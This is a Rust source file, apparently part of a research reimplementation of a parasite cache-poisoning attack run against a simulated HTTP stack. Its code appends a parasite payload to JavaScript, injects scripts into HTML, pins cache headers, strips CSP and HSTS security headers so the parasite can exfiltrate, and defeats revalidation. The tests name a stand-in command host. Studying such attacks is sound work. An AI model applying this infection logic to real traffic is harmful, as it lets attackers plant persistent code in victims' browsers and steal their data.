//! Infecting objects with parasites (paper §VI-A).
//!
//! Given the genuine response for a target object, the master builds the
//! infected copy that it will race against the server:
//!
//! * JavaScript objects get `";PARASITE_CODE;"` appended so the original
//!   functionality is preserved,
//! * HTML objects optionally get a `<script>` block inserted before
//!   `</body>`,
//! * caching headers are rewritten so the victim keeps the infected copy as
//!   long as possible,
//! * security headers (CSP, HSTS, frame restrictions) are stripped so the
//!   parasite can propagate and exfiltrate,
//! * validators are removed from forwarded revalidation requests so the
//!   server answers `200` with a full body rather than `304 Not Modified`.

use crate::script::Parasite;
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::caching::parasite_pin_header;
use mp_httpsim::headers::names;
use mp_httpsim::message::{Request, Response};

/// Configuration of the infection step.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InfectionConfig {
    /// Whether HTML documents are infected too. The paper leaves this
    /// optional "so as not to violate any Content Security Policy".
    pub infect_html: bool,
    /// Whether security headers are stripped from infected responses.
    pub strip_security_headers: bool,
    /// Whether caching headers are rewritten to pin the object.
    pub pin_cache_headers: bool,
}

impl Default for InfectionConfig {
    fn default() -> Self {
        InfectionConfig {
            infect_html: true,
            strip_security_headers: true,
            pin_cache_headers: true,
        }
    }
}

/// The infection engine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Infector {
    /// The parasite to attach.
    pub parasite: Parasite,
    /// Infection options.
    pub config: InfectionConfig,
}

impl Infector {
    /// Creates an infector with default options.
    pub fn new(parasite: Parasite) -> Self {
        Infector {
            parasite,
            config: InfectionConfig::default(),
        }
    }

    /// Returns `true` if the response is a kind of object this infector will
    /// modify.
    pub fn can_infect(&self, response: &Response) -> bool {
        match response.body.kind {
            ResourceKind::JavaScript => true,
            ResourceKind::Html => self.config.infect_html,
            _ => false,
        }
    }

    /// Builds the infected copy of a genuine response.
    ///
    /// Responses that cannot host a parasite are returned unchanged.
    pub fn infect_response(&self, original: &Response) -> Response {
        if !self.can_infect(original) || !original.status.is_success() {
            return original.clone();
        }
        let snippet = self.parasite.payload_snippet();
        let new_text = match original.body.kind {
            ResourceKind::JavaScript => format!("{};{}", original.body.as_text(), snippet),
            ResourceKind::Html => {
                let html = original.body.as_text();
                let script_block = format!("<script>{snippet}</script>");
                match html.rfind("</body>") {
                    Some(idx) => format!("{}{}{}", &html[..idx], script_block, &html[idx..]),
                    None => format!("{html}{script_block}"),
                }
            }
            // Guarded by the can_infect check above. mp-lint: allow(panic-discipline)
            _ => unreachable!("can_infect filtered other kinds"),
        };

        let mut infected = original.clone();
        infected.body = Body::text(original.body.kind, new_text);
        infected
            .headers
            .set(names::CONTENT_LENGTH, infected.body.len().to_string());

        if self.config.pin_cache_headers {
            infected.headers.set(names::CACHE_CONTROL, parasite_pin_header());
            infected.headers.remove(names::PRAGMA);
            infected.headers.remove(names::EXPIRES);
            // Drop validators so later conditional requests cannot resurrect
            // the clean copy with a 304.
            infected.headers.remove(names::ETAG);
            infected.headers.remove(names::LAST_MODIFIED);
        }
        if self.config.strip_security_headers {
            infected.headers.remove(names::CONTENT_SECURITY_POLICY);
            infected.headers.remove(names::X_CONTENT_SECURITY_POLICY);
            infected.headers.remove(names::X_WEBKIT_CSP);
            infected.headers.remove(names::STRICT_TRANSPORT_SECURITY);
            infected.headers.remove(names::X_FRAME_OPTIONS);
        }
        infected
    }

    /// Manipulates a request the victim sends for an already-infected object
    /// so the origin replies with a full `200` body: validators are stripped
    /// ("headers are set which signal to the server that the client has not
    /// cached any data", §VI-A).
    pub fn manipulate_request(&self, request: &Request) -> Request {
        let mut manipulated = request.clone();
        manipulated.strip_validators();
        manipulated.headers.set(names::CACHE_CONTROL, "no-cache");
        manipulated
    }

    /// Returns `true` if the given script/HTML body already carries this
    /// campaign's parasite.
    pub fn is_infected(&self, body_text: &str) -> bool {
        Parasite::detect(body_text)
            .map(|p| p.campaign == self.parasite.campaign)
            .unwrap_or(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_httpsim::caching::CacheDirectives;
    use mp_httpsim::url::Url;

    fn genuine_js() -> Response {
        Response::ok(Body::text(ResourceKind::JavaScript, "function jquery(){ return 1; }"))
            .with_cache_control("max-age=600")
            .with_etag("\"v3\"")
            .with_header(names::CONTENT_SECURITY_POLICY, "default-src 'self'")
            .with_header(names::STRICT_TRANSPORT_SECURITY, "max-age=31536000")
    }

    fn infector() -> Infector {
        Infector::new(Parasite::standard("master.attacker.example"))
    }

    #[test]
    fn javascript_infection_preserves_original_and_appends_payload() {
        let infected = infector().infect_response(&genuine_js());
        let text = infected.body.as_text();
        assert!(text.starts_with("function jquery(){ return 1; }"));
        assert!(Parasite::detect(&text).is_some());
        assert!(infector().is_infected(&text));
    }

    #[test]
    fn html_infection_inserts_script_before_body_close() {
        let original = Response::ok(Body::text(
            ResourceKind::Html,
            "<html><body><h1>news</h1></body></html>",
        ));
        let infected = infector().infect_response(&original);
        let text = infected.body.as_text();
        let script_pos = text.find("<script>").unwrap();
        let body_close = text.find("</body>").unwrap();
        assert!(script_pos < body_close);
        assert!(Parasite::detect(&text).is_some());
    }

    #[test]
    fn cache_headers_are_pinned_and_validators_removed() {
        let infected = infector().infect_response(&genuine_js());
        let directives = CacheDirectives::from_headers(&infected.headers);
        assert_eq!(directives.max_age, Some(31_536_000));
        assert!(directives.immutable);
        assert!(infected.headers.get(names::ETAG).is_none());
        assert_eq!(
            infected.headers.get(names::CONTENT_LENGTH).unwrap(),
            &infected.body.len().to_string()
        );
    }

    #[test]
    fn security_headers_are_stripped() {
        let infected = infector().infect_response(&genuine_js());
        assert!(infected.headers.get(names::CONTENT_SECURITY_POLICY).is_none());
        assert!(infected.headers.get(names::STRICT_TRANSPORT_SECURITY).is_none());
    }

    #[test]
    fn stripping_can_be_disabled_for_ablations() {
        let mut i = infector();
        i.config.strip_security_headers = false;
        i.config.pin_cache_headers = false;
        let infected = i.infect_response(&genuine_js());
        assert!(infected.headers.get(names::CONTENT_SECURITY_POLICY).is_some());
        assert_eq!(infected.headers.get(names::ETAG), Some("\"v3\""));
    }

    #[test]
    fn images_and_errors_are_left_alone() {
        let image = Response::ok(Body::binary(ResourceKind::Image, vec![1, 2, 3]));
        assert_eq!(infector().infect_response(&image), image);
        let error = Response::not_found();
        assert_eq!(infector().infect_response(&error), error);
        let mut no_html = infector();
        no_html.config.infect_html = false;
        let html = Response::ok(Body::text(ResourceKind::Html, "<body></body>"));
        assert_eq!(no_html.infect_response(&html), html);
    }

    #[test]
    fn manipulated_requests_lose_their_validators() {
        let request = Request::get(Url::parse("http://top1.com/persistent.js").unwrap())
            .with_etag_validator("\"v3\"");
        let manipulated = infector().manipulate_request(&request);
        assert!(!manipulated.is_conditional());
        assert_eq!(manipulated.headers.get(names::CACHE_CONTROL), Some("no-cache"));
    }
}
